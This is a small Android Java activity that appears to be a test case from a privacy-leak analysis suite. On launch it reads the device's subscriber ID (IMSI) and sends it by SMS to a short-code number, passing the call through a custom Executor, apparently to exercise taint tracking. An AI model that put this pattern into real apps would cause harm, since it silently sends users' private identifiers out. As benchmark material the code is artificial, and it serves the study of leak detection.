package cn.privlens.suite.executor_runs_it;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.concurrent.Executor;

public class Main extends Activity {
    static class Own implements Executor {
        int n;
        @Override
        public void execute(Runnable task) {
            task.run();
        }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
        Executor executor = new Own();
        executor.execute(() -> SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null));
    }
}
